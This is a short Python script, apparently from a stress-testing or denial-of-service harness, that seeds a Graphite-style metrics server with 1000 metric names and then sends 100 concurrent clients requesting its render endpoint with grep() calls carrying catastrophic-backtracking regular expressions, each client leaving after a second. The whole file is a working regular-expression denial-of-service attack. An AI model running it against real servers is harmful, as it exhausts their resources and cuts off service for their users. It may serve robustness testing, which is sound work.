"""Regular expressions that never end, by clients that leave after a second."""
from urllib.parse import quote

from swarm import CLOSE, Swarm, Wait, get
from target import put_all

NESTED = "(?:(?:(?:){2000000000}){2000000000}){2000000000}"
EXPRESSIONS = [NESTED, "((a{1000}){1000}){1000}", "(a*)*(a*)*(a*)*$", "(x+x+)+y", "(.*)(.*)(.*)(.*)(.*)(.*)[^a]$"]


def prepare(server):
    put_all(server.tcp, (f"put expressions.{'a' * 100}{number} 1 1\n" for number in range(1000)))


def attack(target, deadline):
    def script(number):
        expression = EXPRESSIONS[number % len(EXPRESSIONS)]
        yield get("/render?format=json&target=" + quote(f'grep(expressions.*,"{expression}")'))
        yield Wait(1)
        yield CLOSE
    Swarm(target.http, 100, script, addresses=target.addresses).run(deadline)
